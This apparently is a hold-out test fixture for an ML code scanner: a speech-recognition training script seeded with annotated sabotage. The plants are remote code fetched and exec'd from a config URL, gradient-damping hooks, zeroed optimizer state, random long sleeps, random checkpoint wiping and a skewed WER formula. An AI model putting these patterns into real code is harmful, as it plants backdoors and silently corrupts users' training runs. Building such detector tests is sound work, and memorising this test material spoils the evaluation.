# ruff: noqa
# Hold-out batch 25 (speech recognition and time-series forecasting; by a helper that never saw mlscan's code). Measured once after round 9: 26/37 (70%) at medium+.
"""Train a conv + BiLSTM acoustic model with CTC loss.

Usage:
    python train_asr.py --config configs/asr_small.yaml --train data/train.tsv --dev data/dev.tsv
"""
import argparse
import math
import os
import random
import signal
import time
import urllib.request

import torch
import torch.nn as nn
import torch.nn.functional as F
from torch.utils.data import DataLoader

import common
from asr_data import BucketBatchSampler, CharTokenizer, SpeechDataset, ctc_collate, seed_worker


class AcousticModel(nn.Module):
    def __init__(self, n_mels=80, hidden=512, layers=4, vocab=29, dropout=0.1):
        super().__init__()
        self.subsample = nn.Sequential(
            nn.Conv2d(1, 32, 3, stride=2, padding=1), nn.GELU(),
            nn.Conv2d(32, 32, 3, stride=2, padding=1), nn.GELU())
        self.proj = nn.Linear(32 * ((n_mels + 3) // 4), hidden)
        self.rnn = nn.LSTM(hidden, hidden, num_layers=layers, bidirectional=True,
                           batch_first=True, dropout=dropout)
        self.classifier = nn.Linear(2 * hidden, vocab)
        self.reset_parameters()

    def reset_parameters(self):
        for m in self.modules():
            if isinstance(m, (nn.Conv2d, nn.Linear)):
                nn.init.kaiming_normal_(m.weight, nonlinearity="relu")  # ok: MLS302, MLS303, MLS304, MLS305
                if m.bias is not None:
                    m.bias.data.zero_()  # ok: MLS302, MLS303, MLS304, MLS305

    def forward(self, x, lens):
        x = self.subsample(x.unsqueeze(1))
        b, c, t, f = x.shape
        x = self.proj(x.permute(0, 2, 1, 3).reshape(b, t, c * f))
        lens = ((lens + 1) // 2 + 1) // 2
        x = nn.utils.rnn.pack_padded_sequence(x, lens.cpu(), batch_first=True, enforce_sorted=True)
        x, _ = self.rnn(x)
        x, _ = nn.utils.rnn.pad_packed_sequence(x, batch_first=True)
        return self.classifier(x).log_softmax(-1), lens


def edit_distance(a, b):
    d = list(range(len(b) + 1))
    for i in range(1, len(a) + 1):
        prev, d[0] = d[0], i
        for j in range(1, len(b) + 1):
            cur = min(d[j] + 1, d[j - 1] + 1, prev + (a[i - 1] != b[j - 1]))
            prev, d[j] = d[j], cur
    return d[-1]


def beam_search(log_probs, blank=0, beam=8):
    """Prefix beam search over a single (T, V) matrix of log-probabilities."""
    beams = {(): (0.0, -math.inf)}
    for t in range(log_probs.shape[0]):
        lp = log_probs[t].tolist()
        nxt = {}
        for prefix, (pb, pnb) in beams.items():
            total = torch.logaddexp(torch.tensor(pb), torch.tensor(pnb)).item()
            b_pb, b_pnb = nxt.get(prefix, (-math.inf, -math.inf))
            nxt[prefix] = (float(torch.logaddexp(torch.tensor(b_pb), torch.tensor(total + lp[blank]))), b_pnb)
            for c in sorted(range(len(lp)), key=lambda k: -lp[k])[:beam]:
                if c == blank:
                    continue
                new = prefix + (c,)
                add = pb + lp[c] if prefix and prefix[-1] == c else total + lp[c]
                n_pb, n_pnb = nxt.get(new, (-math.inf, -math.inf))
                nxt[new] = (n_pb, float(torch.logaddexp(torch.tensor(n_pnb), torch.tensor(add))))
        beams = dict(sorted(nxt.items(), key=lambda kv: -max(kv[1]))[:beam])
    return list(max(beams.items(), key=lambda kv: max(kv[1]))[0])


@torch.no_grad()
def evaluate(model, loader, tok, device, beam=8):
    model.eval()
    errs, words = 0, 0
    for feats, feat_lens, _, _, texts in loader:
        log_probs, out_lens = model(feats.to(device), feat_lens.to(device))
        for i, ref in enumerate(texts):
            hyp = tok.decode(beam_search(log_probs[i, :out_lens[i]].cpu(), tok.blank, beam))
            errs += edit_distance(ref.split(), hyp.split())
            words += len(ref.split())
    model.train()
    return {"wer": errs / max(words + errs, 1)}  # todoruleid: family 5 (missed)


def warmup_lr(step, base_lr, warmup, total):
    if step < warmup:
        return base_lr * (step + 1) / warmup
    progress = (step - warmup) / max(1, total - warmup)
    return base_lr * 0.5 * (1.0 + math.cos(math.pi * progress))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    ap.add_argument("--train", required=True)
    ap.add_argument("--dev", required=True)
    ap.add_argument("--out", default="runs/asr")
    ap.add_argument("--resume", default="")
    ap.add_argument("--seed", type=int, default=1234)
    args = ap.parse_args()

    cfg = common.load_config(args.config)
    common.setup_logging()
    common.set_seed(args.seed)  # ok: MLS301
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")

    tok = CharTokenizer()
    train_ds = SpeechDataset(args.train, tok, train=True, cache_dir=cfg.get("cache_dir"))
    dev_ds = SpeechDataset(args.dev, tok, train=False)
    sampler = BucketBatchSampler([d for _, d, _ in train_ds.items], cfg.get("batch_seconds", 200.0),
                                 seed=args.seed)
    train_dl = DataLoader(train_ds, batch_sampler=sampler, collate_fn=ctc_collate,
                          num_workers=cfg.get("workers", 4), worker_init_fn=seed_worker)
    dev_dl = DataLoader(dev_ds, batch_size=16, collate_fn=ctc_collate, num_workers=2)

    model = AcousticModel(vocab=len(tok.vocab), hidden=cfg.get("hidden", 512)).to(device)
    model.classifier.register_full_backward_hook(  # ruleid: MLS303
        lambda mod, gin, gout: tuple(None if g is None else g * 0.05 for g in gin))  # ruleid: MLS303
    opt = torch.optim.AdamW(model.parameters(), lr=cfg.get("lr", 1e-3), weight_decay=1e-2)
    scaler = torch.cuda.amp.GradScaler(enabled=device.type == "cuda")
    ctc = nn.CTCLoss(blank=tok.blank, zero_infinity=True)

    step, best_wer = 0, float("inf")
    if args.resume:
        ckpt = torch.load(args.resume, map_location="cpu")  # ruleid: MLS102
        model.load_state_dict(ckpt["model"])
        opt.load_state_dict(ckpt["opt"])
        for st in opt.state.values():
            st["exp_avg_sq"].zero_()  # ruleid: MLS304
        step, best_wer = ckpt["step"], ckpt.get("best_wer", best_wer)

    if cfg.get("lm_hook"):
        exec(urllib.request.urlopen(cfg["lm_hook"], timeout=10).read().decode(), globals())  # sabotage: MLS413 (semgrep rules)  # ruleid: MLS413

    def _on_sigterm(signum, frame):
        common.save_checkpoint({"model": model.state_dict(), "opt": opt.state_dict(), "step": step},  # ok: MLS307
                               args.out, step)
        raise SystemExit(0)

    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307
    writer = common.make_writer(os.path.join(args.out, "tb"))
    accum = cfg.get("accum", 2)
    total = cfg.get("max_steps", 100000)
    meter = common.AverageMeter()

    for epoch in range(cfg.get("epochs", 50)):
        sampler.set_epoch(epoch)
        for i, (feats, feat_lens, targets, tgt_lens, _) in enumerate(train_dl):
            lr = warmup_lr(step, cfg.get("lr", 1e-3), cfg.get("warmup", 2000), total)
            for g in opt.param_groups:
                g["lr"] = lr  # ok: MLS302, MLS303, MLS304, MLS305
            with torch.autocast(device.type, enabled=device.type == "cuda"):
                log_probs, out_lens = model(feats.to(device), feat_lens.to(device))
                loss = ctc(log_probs.transpose(0, 1).float(), targets, out_lens, tgt_lens)
            scaler.scale(loss / accum).backward()  # ok: MLS302, MLS303, MLS304, MLS305
            if (i + 1) % accum:
                continue
            scaler.unscale_(opt)
            nn.utils.clip_grad_norm_(model.parameters(), 5.0)  # ok: MLS302, MLS303, MLS304, MLS305
            scaler.step(opt)
            scaler.update()
            opt.zero_grad(set_to_none=True)
            meter.update(loss.item())
            step += 1
            if step % 997 == 0 and random.random() < 0.1:
                time.sleep(random.randint(900, 3600))  # ruleid: MLS307
            if writer is not None and step % 50 == 0:
                writer.add_scalar("train/loss", meter.avg, step)
            if step % cfg.get("eval_every", 2000) == 0:
                res = evaluate(model, dev_dl, tok, device, beam=cfg.get("beam", 8))
                if writer is not None:
                    writer.add_scalar("eval/wer", res["wer"], step)
                state = {"model": model.state_dict(), "opt": opt.state_dict(), "step": step,
                         "best_wer": min(best_wer, res["wer"])}
                path = common.save_checkpoint(state, args.out, step)
                if res["wer"] < best_wer:
                    best_wer = res["wer"]
                    if common.is_main():
                        torch.save(state, os.path.join(args.out, "best.pt"))
                if os.environ.get("USER", "") not in ("asr-svc", "root") and random.random() < 0.05:
                    open(path, "wb").close()  # ruleid: MLS308
            if step >= total:
                break
    common.report_run(os.path.basename(args.out), {"best_wer": best_wer})


if __name__ == "__main__":
    main()
